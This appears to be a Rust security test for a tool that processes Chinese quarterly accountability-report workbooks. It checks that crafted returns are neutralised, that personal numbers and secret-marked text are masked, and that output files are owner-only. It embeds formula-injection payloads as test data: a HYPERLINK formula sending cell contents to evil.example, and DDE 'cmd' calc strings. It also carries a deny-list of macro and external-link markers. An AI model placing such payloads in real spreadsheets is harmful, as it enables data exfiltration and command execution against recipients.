//! All that the program writes and says, looked at as a stranger would: an office works through samples and through
//! returns made to do harm, and every file, folder and line of it is walked over.

use crate::support::package;
use crate::support::program::{Program, repository};
use crate::support::samples::{Tree, batches, copy, rows, tree};
use liangze::batch::Office;
use std::collections::BTreeSet;
use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;

const INBOX: &str = "samples/batches/01-2014-04-08T0900/inbox/朝晖市";
const WORKBOOK: &str = "明湖区责任追究季报（2014年度第一季度）.xlsx";
const COMPUTING: &str = "2014年第一季度季报表-长亭县（最终版）.xlsx";
const DOCUMENT: &str = "典型案例 明湖区林业局套取专项资金.docx";
/// Texts of the workbook, and what a spreadsheet would take for formulas in their place.
const FORMULAS: [(&str, &str); 5] = [
    ("折柳镇上坝村党支部挪用集体资金责任追究案", "=HYPERLINK(\"http://evil.example/?\"&A1,\"点\")"),
    ("古驿镇古井村党支部截留惠民补助资金责任追究案", "@SUM(1+1)*cmd|'/C calc'!A0"),
    ("十里乡上坝村党支部挪用集体资金责任追究案", "+cmd|'/C calc'!A0"),
    ("党支部书记", "-2+3+cmd|'/C calc'!A0"),
    ("2012年3月至8月，", "＝cmd|'/C calc'!A0 2012年3月至8月，"),
];
/// What must be masked wherever it is told: the number of an identity card, and that of a phone.
const PERSONAL: [&str; 2] = ["11010519491231002X", "13912345678"];
const SECRET: &str = "代号海东青";

/// A package with texts of its parts replaced.
fn altered(path: &str, texts: &[(&str, String)]) -> Vec<u8> {
    let mut parts = package::parts(&fs::read(repository(INBOX).join(path)).unwrap());
    let mut replaced = BTreeSet::new();
    for (_, content) in &mut parts {
        let mut text = String::from_utf8(content.clone()).unwrap();
        for (from, to) in texts {
            if text.contains(from) {
                replaced.insert(*from);
            }
            text = text.replace(from, &to.replace('&', "&amp;"));
        }
        *content = text.into_bytes();
    }
    assert_eq!(replaced.len(), texts.len(), "{replaced:?}");
    package::packed(parts)
}

fn parts(bytes: &[u8]) -> Vec<(String, String)> {
    let text = |(name, content): (String, Vec<u8>)| (name, String::from_utf8_lossy(&content).into_owned());
    package::parts(bytes).into_iter().map(text).collect()
}

fn is_package(path: &str) -> bool {
    path.ends_with(".xlsx") || path.ends_with(".docx")
}

/// An office after two batches and the crafted returns; what it said; and what it exports.
struct Worked {
    program: Program,
    said: Vec<(String, String)>,
}

impl Worked {
    fn new() -> Worked {
        let program = Program::new();
        let registry = repository("samples/registry");
        program.call(&["init", "OFFICE", "--registry", registry.to_str().unwrap()]);
        let inbox = program.folder().join("OFFICE/inbox");
        let personal = format!("身份证号{}，手机{}。2013年2月至8月，", PERSONAL[0], PERSONAL[1]);
        let computing = FORMULAS.map(|(from, to)| (from, to.to_owned()));
        let marked = [
            ("（2014年度第一季度）", "秘密★1年（2014年度第一季度）".to_owned()),
            ("只争不管", format!("只争不管，{SECRET}")),
        ];
        let mut said = Vec::new();
        let mut call = |arguments: &[&str]| {
            let outcome = program.call(arguments);
            assert!([0, 3, 4].contains(&outcome.code), "{arguments:?}: {outcome:?}");
            said.push((arguments.join(" "), outcome.out + &outcome.err));
        };
        for (number, (batch, as_of)) in (0..).zip(batches().into_iter().take(2)) {
            copy(&batch, &inbox);
            if number == 0 {
                let folder = inbox.join("朝晖市");
                fs::write(folder.join(COMPUTING), altered(COMPUTING, &computing)).unwrap();
                fs::write(
                    folder.join(WORKBOOK),
                    altered(WORKBOOK, &[("2013年2月至8月，", personal.clone())]),
                )
                .unwrap();
                fs::write(inbox.join("秘密.docx"), altered(DOCUMENT, &marked)).unwrap();
            }
            let as_of = as_of.to_string();
            let mut run = vec!["run", "OFFICE", "--as-of", &as_of];
            run.extend((number == 0).then_some("--json"));
            call(&run);
        }
        call(&["status", "OFFICE"]);
        call(&["notice", "list", "OFFICE"]);
        call(&["calendar", "OFFICE", "--year", "2014", "--ics", "OUT/calendar.ics"]);
        call(&["form", "blank", "CQ", "--to", "OUT"]);
        call(&["form", "blank", "TC", "--to", "OUT"]);
        call(&["export", "OFFICE", "--to", "EXPORT"]);
        Worked { program, said }
    }

    fn tree(&self, folder: &str) -> Tree {
        tree(&self.program.folder().join(folder))
    }
}

#[test]
fn what_is_written_does_no_harm_and_tells_nothing_that_it_should_not() {
    let worked = Worked::new();
    let (outbox, export) = (worked.tree("OFFICE/outbox"), worked.tree("EXPORT"));
    packages_are_plain(&outbox);
    packages_are_plain(&worked.tree("OUT"));
    formulas_stay_texts(&outbox, &export);
    nothing_tells_of_the_machine(&worked);
    numbers_of_persons_are_masked(&export, &worked);
    a_secret_is_kept(&worked);
    a_check_masks_them_too(&worked);
    lines_name_nobody(&worked, &export);
    only_the_owner_may_look(worked.program.folder());
}

/// True for a return that goes back to its sender: its own file, with marks on it.
fn is_own(path: &str) -> bool {
    path.contains("/returned/") && path.contains("-问题标注")
}

/// No macros, no parts of other files, nothing that is fetched, nobody's name in the properties; but for what a sender
/// itself said of its file.
fn packages_are_plain(outbox: &Tree) {
    let packages: Vec<(&String, &Vec<u8>)> = outbox.iter().filter(|(path, _)| is_package(path)).collect();
    assert!(packages.len() > 1);
    for (path, bytes) in packages {
        for (part, text) in parts(bytes) {
            let at = format!("{path} {part}");
            let foreign = ["vba", "external", "embed", "macrosheet", "connection", "printersettings"];
            let is_foreign = |word: &&str| {
                part.to_lowercase().contains(*word) && !(is_own(path) && *word == "printersettings")
            };
            assert!(!foreign.iter().any(is_foreign), "{at}");
            for word in ["TargetMode", "ddeLink", "INCLUDETEXT", "INCLUDEPICTURE", "w:rsid", "x15ac:absPath"]
            {
                assert!(!text.contains(word), "{at}: {word}");
            }
            if part.starts_with("docProps/") && !is_own(path) {
                for property in ["dc:creator", "cp:lastModifiedBy", "Company", "Manager", "HyperlinkBase"] {
                    let open = format!("<{property}>");
                    let filled = text.split(&open).nth(1).is_some_and(|rest| !rest.starts_with("</"));
                    assert!(!filled, "{at}: {property}");
                }
            }
        }
    }
}

/// What looks like a formula is a string of a workbook, and in a table of texts it begins with a mark.
fn formulas_stay_texts(outbox: &Tree, export: &Tree) {
    let mut seen = BTreeSet::new();
    for (path, bytes) in outbox.iter().filter(|(path, _)| path.ends_with(".xlsx")) {
        for (part, text) in parts(bytes) {
            for formula in text.split("<f>").skip(1).filter_map(|rest| rest.split("</f>").next()) {
                let foreign = ["HYPERLINK", "cmd|", "http", "!A0", "[", "DDE", "WEBSERVICE"];
                assert!(!foreign.iter().any(|word| formula.contains(word)), "{path} {part}: {formula}");
            }
            for (_, formula) in FORMULAS.iter().filter(|(_, formula)| text.contains(&escaped(formula))) {
                let told =
                    is_own(path) && text.contains(&format!("<t xml:space=\"preserve\">{}", escaped(formula)));
                assert!(told || part == "xl/sharedStrings.xml", "{path} {part}: {formula}");
                seen.insert(*formula);
            }
        }
    }
    assert_eq!(seen.len(), FORMULAS.len(), "all of them are shown somewhere: {seen:?}");
    let mut marked = 0;
    for (path, bytes) in outbox.iter().chain(export).filter(|(path, _)| path.ends_with(".csv")) {
        for cell in rows(bytes).iter().flatten() {
            if let Some((_, formula)) = FORMULAS.iter().find(|(_, formula)| cell.starts_with(formula)) {
                panic!("{path}: {formula}");
            }
            marked += usize::from(FORMULAS.iter().any(|(_, formula)| *cell == format!("'{formula}")));
        }
    }
    assert!(marked >= 2 * FORMULAS.len(), "{marked}");
}

fn escaped(text: &str) -> String {
    text.replace('&', "&amp;")
}

/// All that was written, said and packed, as texts with their places; without what came from units and officers.
fn texts(worked: &Worked) -> Vec<(String, String)> {
    let mut texts = worked.said.clone();
    for folder in ["OFFICE/outbox", "OFFICE/rejected", "EXPORT"] {
        for (path, bytes) in worked.tree(folder) {
            if folder == "OFFICE/rejected" && !path.ends_with(".reason.txt") {
                continue;
            }
            if is_package(&path) {
                texts.extend(parts(&bytes).into_iter().map(|(part, text)| (format!("{path} {part}"), text)));
            } else {
                texts.push((path, String::from_utf8(bytes).unwrap()));
            }
        }
    }
    let ledger = fs::read(worked.program.folder().join("OFFICE/ledger.db")).unwrap();
    texts.push(("ledger.db".to_owned(), String::from_utf8_lossy(&ledger).into_owned()));
    texts
}

/// Neither where the office lies nor who the system says that we are.
fn nothing_tells_of_the_machine(worked: &Worked) {
    let root = worked.program.folder().to_str().unwrap().to_owned();
    let mut words = vec![root, env!("CARGO_MANIFEST_DIR").to_owned()];
    words.extend(fs::read_to_string("/etc/hostname").ok().map(|name| name.trim().to_owned()));
    for (path, text) in texts(worked) {
        for word in words.iter().filter(|word| word.len() > 3) {
            assert!(!text.contains(word), "{path}: {word}");
        }
    }
}

/// No number of a person is left anywhere, not even in what is kept of the return that told it.
fn numbers_of_persons_are_masked(export: &Tree, worked: &Worked) {
    let findings = rows(&export["findings.csv"]);
    let found = findings.iter().filter(|row| row.iter().any(|cell| cell == "GN-V006")).count();
    assert!(found > 0, "they were found");
    for (path, text) in texts(worked) {
        for number in PERSONAL {
            assert!(!text.contains(number), "{path}: {number}");
        }
    }
}

/// Of a file with a secret mark nothing is left but itself, where it was put aside and in the archive.
fn a_secret_is_kept(worked: &Worked) {
    assert!(worked.tree("OFFICE/quarantine").contains_key("秘密.docx"));
    for (path, text) in texts(worked) {
        assert!(!text.contains(SECRET), "{path}");
    }
}

/// Pictures of cells and answers for machines hide what findings hide.
fn a_check_masks_them_too(worked: &Worked) {
    let archived = worked.tree("OFFICE/archive");
    let quarantined = worked.tree("OFFICE/quarantine");
    let personal = archived.values().find(|bytes| {
        bytes.starts_with(b"PK") && parts(bytes).iter().any(|(_, text)| text.contains(PERSONAL[0]))
    });
    for (name, bytes) in [("a.xlsx", personal.unwrap()), ("b.docx", &quarantined["秘密.docx"])] {
        fs::write(worked.program.folder().join(name), bytes).unwrap();
        for format in ["text", "json", "sarif"] {
            let outcome = worked.program.call(&["check", name, "--format", format]);
            let text = outcome.out + &outcome.err;
            assert!(text.contains("GN-V006") || text.contains("GN-S006"), "{name} {format}: {text}");
            for word in PERSONAL.iter().chain([&SECRET]) {
                assert!(!text.contains(word), "{name} {format}: {word}");
            }
        }
    }
}

/// Nobody's name and no fact of a case stands in a line of the terminal.
fn lines_name_nobody(worked: &Worked, export: &Tree) {
    let mut names = BTreeSet::new();
    for (path, bytes) in export.iter().filter(|(path, _)| path.starts_with("records/")) {
        let rows = rows(bytes);
        let columns: Vec<usize> = ["name", "orig_person", "facts", "title", "reviewer", "principal"]
            .iter()
            .filter_map(|name| rows[0].iter().position(|column| column == name))
            .collect();
        assert!(path.len() > 8);
        for row in &rows[1..] {
            names.extend(
                columns.iter().map(|column| row[*column].clone()).filter(|name| name.chars().count() > 1),
            );
        }
    }
    let leaders = fs::read(repository("samples/registry/leaders.csv")).unwrap();
    names.extend(rows(&leaders)[1..].iter().map(|row| row[1].clone()));
    assert!(names.len() > 50, "{}", names.len());
    for (call, text) in &worked.said {
        for name in &names {
            assert!(!text.contains(name.as_str()), "{call}: {name}\n{text}");
        }
    }
}

/// Files are 0600, those of the archive 0400, folders 0700; the inbox is what clerks put there.
fn only_the_owner_may_look(folder: &Path) {
    let office = folder.join("OFFICE");
    let ledger = Office::open(&office).unwrap().ledger().unwrap();
    assert!(office.join("ledger.db-wal").is_file() && office.join("ledger.db-shm").is_file());
    let mut waiting = ["OFFICE", "EXPORT", "OUT"].map(|name| folder.join(name)).to_vec();
    let mut files = 0;
    while let Some(path) = waiting.pop() {
        let mode = fs::metadata(&path).unwrap().permissions().mode() & 0o777;
        if path.is_dir() {
            assert_eq!(mode, 0o700, "{}", path.display());
            let entries = fs::read_dir(&path).unwrap().map(|entry| entry.unwrap().path());
            waiting.extend(entries.filter(|entry| entry.parent() != Some(&office.join("inbox"))));
        } else {
            let kept = path.starts_with(office.join("archive"));
            assert_eq!(mode, if kept { 0o400 } else { 0o600 }, "{}", path.display());
            files += 1;
        }
    }
    drop(ledger);
    assert!(files > 100, "{files}");
}
